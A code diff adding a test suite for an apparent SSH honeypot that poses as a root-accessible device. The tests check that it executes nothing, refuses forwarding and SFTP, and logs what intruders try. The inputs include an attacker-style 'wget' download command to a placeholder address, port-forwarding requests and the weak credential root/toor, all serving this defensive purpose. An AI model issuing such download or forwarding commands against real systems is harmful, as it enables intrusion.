@@ -1,0 +1,102 @@
+import type { EventEmitter } from 'node:events'
+import { createRequire } from 'node:module'
+import { afterAll, beforeAll, expect, it } from 'vitest'
+import { type Opened, opened, profileOf } from '../../testing/opened.ts'
+
+interface TestClient extends EventEmitter {
+  connect(to: Record<string, unknown>): void
+  end(): void
+  exec(command: string, done: (error: Error | undefined, stream: NodeJS.ReadableStream) => void): void
+  shell(done: (error: Error | undefined, stream: NodeJS.ReadWriteStream) => void): void
+  sftp(done: (error?: Error) => void): void
+  forwardOut(from: string, fromPort: number, to: string, toPort: number, done: (error?: Error) => void): void
+  forwardIn(address: string, port: number, done: (error?: Error) => void): void
+}
+/** The client of the same library, from within tests only. */
+const { Client } = createRequire(import.meta.url)('ssh2') as { Client: new () => TestClient }
+
+let open: Opened
+beforeAll(async () => {
+  const options = { banner: 'SSH-2.0-OpenSSH_7.4', hostname: 'nas', prompt: '# ' }
+  open = await opened(
+    profileOf([{ port: 22, protocol: 'ssh', options }], [{ user: 'root', password: 'toor' }]),
+  )
+})
+afterAll(() => open.decoys.close())
+
+const connected = (password: string, more = {}) =>
+  new Promise<TestClient>((resolve, reject) => {
+    open.said.length = 0
+    const client = new Client()
+    client.on('ready', () => resolve(client)).on('error', reject)
+    client.connect({ host: '127.0.0.1', port: open.at(22), username: 'root', password, ...more })
+  })
+const all = (stream: NodeJS.ReadableStream) =>
+  new Promise<string>((resolve) => {
+    let text = ''
+    stream.on('data', (bytes) => (text += bytes)).on('close', () => resolve(text))
+  })
+
+it('runs nothing, answers as a device, and tells what it was told', async () => {
+  const client = await connected('toor')
+  const printed = await new Promise<string>((resolve, reject) =>
+    client.exec('uname -n; wget http://192.0.2.9/x', (error, stream) =>
+      error ? reject(error) : resolve(all(stream)),
+    ),
+  )
+  client.end()
+  expect(printed).toBe('nas\n')
+  expect(open.events()).toMatchObject([
+    { kind: 'login', protocol: 'ssh', user: 'root', password: 'toor', accepted: true },
+    { kind: 'command', text: 'uname -n; wget http://192.0.2.9/x' },
+    { kind: 'link', url: 'http://192.0.2.9/x' },
+  ])
+})
+
+it('has a terminal with echo and prompt', async () => {
+  const client = await connected('toor')
+  const printed = await new Promise<string>((resolve) =>
+    client.shell((_error, stream) => {
+      resolve(all(stream))
+      stream.write('idx\x7f\rexit\r')
+    }),
+  )
+  client.end()
+  expect(printed).toBe('# idx\b \b\r\nuid=0(root) gid=0(root) groups=0(root)\r\n# exit\r\n')
+})
+
+it('lets in by keyboard-interactive as well, and nobody with another password', async () => {
+  await expect(connected('wrong')).rejects.toThrow('authentication methods failed')
+  expect(open.events()).toMatchObject([{ password: 'wrong', accepted: false }])
+  const client = new Client()
+  await new Promise((resolve, reject) => {
+    client.on('keyboard-interactive', (...input: unknown[]) => (input[4] as (a: string[]) => void)(['toor']))
+    client.on('ready', resolve).on('error', reject)
+    client.connect({ host: '127.0.0.1', port: open.at(22), username: 'root', tryKeyboard: true })
+  })
+  client.end()
+})
+
+it('forwards nothing and has no files, and tells who asked', async () => {
+  const client = await connected('toor')
+  const refused = (ask: (done: (error?: Error) => void) => void) =>
+    new Promise((resolve) => ask((error) => resolve(error instanceof Error)))
+  expect(await refused((done) => client.forwardOut('127.0.0.1', 1, '192.0.2.9', 25, done))).toBe(true)
+  expect(await refused((done) => client.forwardIn('0.0.0.0', 8080, done))).toBe(true)
+  expect(await refused((done) => client.sftp(done))).toBe(true)
+  client.end()
+  expect(open.events().slice(1)).toMatchObject([
+    { text: 'direct-tcpip 192.0.2.9:25' },
+    { text: 'tcpip-forward 0.0.0.0:8080' },
+    { text: 'subsystem sftp' },
+  ])
+})
+
+it('says hello once, as the profile has it, before anything is known of the client', async () => {
+  const client = await connected('toor')
+  client.end()
+  const wrote = Buffer.concat(open.said.flatMap((one) => (one.what === 'wrote' ? [one.bytes] : [])))
+  expect(wrote.toString('latin1').match(/SSH-2\.0-[^\r]*\r\n/g)).toEqual(['SSH-2.0-OpenSSH_7.4\r\n'])
+  const read = Buffer.concat(open.said.flatMap((one) => (one.what === 'read' ? [one.bytes] : [])))
+  expect(read.toString('latin1')).toContain('SSH-2.0-ssh2js')
+})
